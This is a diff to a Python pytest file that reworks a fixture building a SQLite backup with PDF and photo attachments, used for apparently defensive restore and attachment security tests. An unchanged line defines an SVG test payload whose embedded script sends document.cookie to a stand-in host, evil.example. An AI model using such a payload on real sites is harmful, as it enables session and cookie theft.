@@ -22,20 +22,29 @@ from tests.test_attachments import ADMIN, TODAY, pdf_report, photo, png_bomb, qu
 SVG = b'<svg xmlns="http://www.w3.org/2000/svg"><script>fetch("//evil.example/?"+document.cookie)</script></svg>'
 
 
+@pytest.fixture(scope="module")
+def backup_file(tmp_path_factory) -> bytes:
+    """The SQLite backup of a database with a PDF and a photo attached (made once)."""
+    where = tmp_path_factory.mktemp("attached")
+    with pytest.MonkeyPatch.context() as mp:
+        mp.setattr(intake, "check_file", fake_check_file)
+        store = open_store(str(where / "live.db"))
+        store.save_register(make_register(4), by="setup")
+        for unit, seed, att in (
+            ("U00", 0, check_attachment(pdf_report(), "a.pdf")),
+            ("U01", 1, check_attachment(photo(), "b.jpg")),
+        ):
+            assert intake.import_upload(store, quarter(unit, seed), "q.csv", today=TODAY, attachment=att).ok
+        data = make_backup(store, archive=False)
+        store.close()
+    return data
+
+
 @pytest.fixture
-def backed_up(tmp_path, monkeypatch):
-    """A database with a PDF and a photo attached, its SQLite backup file, and a fresh store."""
-    monkeypatch.setattr(intake, "check_file", fake_check_file)
-    store = open_store(str(tmp_path / "live.db"))
-    store.save_register(make_register(4), by="setup")
-    for unit, seed, att in (
-        ("U00", 0, check_attachment(pdf_report(), "a.pdf")),
-        ("U01", 1, check_attachment(photo(), "b.jpg")),
-    ):
-        assert intake.import_upload(store, quarter(unit, seed), "q.csv", today=TODAY, attachment=att).ok
+def backed_up(backup_file, tmp_path):
+    """The backup as a file the attacker may edit, and a fresh store to restore it into."""
     path = tmp_path / "backup.db"
-    path.write_bytes(make_backup(store, archive=False))
-    store.close()
+    path.write_bytes(backup_file)
     target = open_store(str(tmp_path / "target.db"))
     yield path, target
     target.close()
